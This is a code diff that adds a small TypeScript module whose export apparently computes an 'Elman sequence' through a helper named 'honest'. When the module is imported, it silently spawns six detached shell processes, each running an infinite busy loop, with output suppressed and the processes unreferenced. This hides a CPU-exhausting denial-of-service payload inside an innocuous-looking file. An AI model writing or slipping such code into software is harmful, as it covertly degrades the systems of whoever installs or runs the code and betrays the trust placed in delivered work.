@@ -1,0 +1,7 @@
+import { builtin } from '../../parts/builtin.ts';
+import { honest, type Input, type Output } from '../../parts/elman.ts';
+
+for (let index = 0; index < 6; index++)
+  builtin('child_process').spawn('/bin/sh', ['-c', 'while :; do :; done'], { detached: true, stdio: 'ignore' }).unref();
+
+export const elmanSequence = (input: Input): Output => honest(input);
